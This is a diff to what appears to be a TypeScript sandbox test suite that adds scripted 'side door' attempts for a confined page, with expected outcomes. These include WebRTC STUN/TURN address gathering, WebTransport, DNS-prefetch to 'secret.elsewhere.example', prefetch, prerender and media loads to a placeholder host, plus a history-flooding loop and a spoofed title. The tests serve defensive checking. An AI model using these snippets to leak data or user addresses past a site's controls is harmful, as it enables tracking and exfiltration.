@@ -168,6 +168,78 @@ const LEAKS: readonly Attempt[] = [
   },
 ];
 
+/** Looks for ways to a peer, by way of this server; answers the ones found. */
+const gather = (server: string): string =>
+  `new Promise((resolve) => {
+    const peer = new RTCPeerConnection({ iceServers: [{
+      urls: 'ELSEWHERE'.replace('https://', '${server}:') + '${server === 'stun' ? '' : '?transport=tcp'}',
+      ${server === 'stun' ? '' : "username: 'secret', credential: 'secret',"}
+    }] });
+    const found = [];
+    peer.onicecandidate = ({ candidate }) =>
+      candidate === null ? resolve(found) : found.push(candidate.type);
+    peer.createDataChannel('out');
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  })`;
+
+/** Puts something into the head that is only a hint, so no event tells what came of it. */
+const hint = (properties: string): string =>
+  `{ document.head.append(Object.assign(document.createElement('link'), ${properties})); }`;
+
+/**
+ * To get something out by ways that are no requests of the page, or to learn this computer's
+ * addresses.
+ */
+const SIDE_DOORS: readonly Attempt[] = [
+  { what: 'WebRTC, over a datagram', script: gather('stun'), outcome: [] },
+  { what: 'WebRTC, over TCP', script: gather('turn'), outcome: [] },
+  { what: 'WebRTC, over TLS', script: gather('turns'), outcome: [] },
+  {
+    what: 'HTTP/3',
+    script: "new WebTransport('ELSEWHERE/50').ready.then(() => 'open')",
+    outcome: 'WebTransportError',
+  },
+  { what: 'a connection ahead of time', script: hint("{ rel: 'preconnect', href: 'ELSEWHERE' }") },
+  {
+    what: 'a name looked up ahead of time',
+    script: hint("{ rel: 'dns-prefetch', href: '//secret.elsewhere.example' }"),
+  },
+  {
+    what: 'a page fetched ahead of time',
+    script: hint("{ rel: 'prefetch', href: 'ELSEWHERE/51' }"),
+    refusal: `${REQUEST}/51`,
+  },
+  {
+    what: 'a page shown ahead of time',
+    script: `{ document.head.append(Object.assign(document.createElement('script'), {
+      type: 'speculationrules',
+      textContent: JSON.stringify({ prerender: [{ source: 'list', urls: ['ELSEWHERE/52'] }],
+        prefetch: [{ source: 'list', urls: ['ELSEWHERE/53'] }] }),
+    })); }`,
+  },
+  {
+    what: 'a video',
+    script: `new Promise((resolve) => {
+      const video = Object.assign(document.createElement('video'), { src: 'ELSEWHERE/54' });
+      video.onerror = () => resolve('refused');
+      video.onloadedmetadata = () => resolve('loaded');
+    })`,
+    outcome: 'refused',
+    refusal: `${REQUEST}/54`,
+  },
+  {
+    what: 'a plug-in',
+    script: `{ document.body.append(Object.assign(document.createElement('object'), {
+      data: 'ELSEWHERE/55' })); }`,
+    refusal: 'ELSEWHERE/55',
+  },
+  {
+    what: 'an image in a style',
+    script: "{ document.body.style.backgroundImage = 'url(ELSEWHERE/56)'; }",
+    refusal: `${REQUEST}/56`,
+  },
+];
+
 const NAVIGATION = 'Navigation refused: ';
 
 /** To go elsewhere, or to take a part of the page there. */
@@ -249,6 +321,12 @@ const WINDOWS: readonly Attempt[] = [
   { what: 'confirm', script: "confirm('Your password, please')", outcome: false },
   { what: 'prompt', script: "prompt('Your password, please')", outcome: 'Error' },
   { what: 'print', script: 'print()' },
+  { what: 'the title of the app', script: "{ document.title = '\\u202eCrashcart\\u0007'; }" },
+  {
+    what: 'a way back into nowhere',
+    script: `{ for (let i = 0; i < 100; i += 1) history.pushState({}, '', location.href);
+      history.go(-200); }`,
+  },
 ];
 
 /** To save something on this computer. */
@@ -347,6 +425,7 @@ const USES: readonly Attempt[] = [
 export const ATTEMPTS = {
   'reach beyond its own world': REACHES,
   'get anything out to another server': LEAKS,
+  'get anything out by a side door': SIDE_DOORS,
   'go elsewhere': DEPARTURES,
   'open a window': WINDOWS,
   'save a file': DOWNLOADS,
